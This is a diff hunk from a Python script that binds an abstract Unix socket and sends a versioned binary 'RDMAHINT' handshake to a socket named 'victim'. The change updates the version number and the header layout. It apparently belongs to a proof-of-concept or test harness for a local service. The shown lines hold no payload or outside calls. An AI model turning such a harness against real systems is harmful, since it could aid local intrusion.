@@ -499,7 +499,7 @@ def read(n):
 read(41)
 name = b"rdma-hint-" + os.urandom(8).hex().encode()
 unix = socket.socket(socket.AF_UNIX); unix.bind(b"\0" + name); unix.listen(1)
-hello = b"RDMAHINT" + struct.pack("<HBH", 3, 1, 1) + struct.pack("<IQ", 0, 4 << 20) + bytes([len(name)]) + name + bytes(32)
+hello = b"RDMAHINT" + struct.pack("<HBH", 4, 1, 1) + struct.pack("<IQB", 0, 4 << 20, 0) + bytes([len(name)]) + name + bytes(32)
 victim.sendall(hello)
 read(8 + 2 + 1 + 2 + 1 + 32)
 unix.settimeout(10)
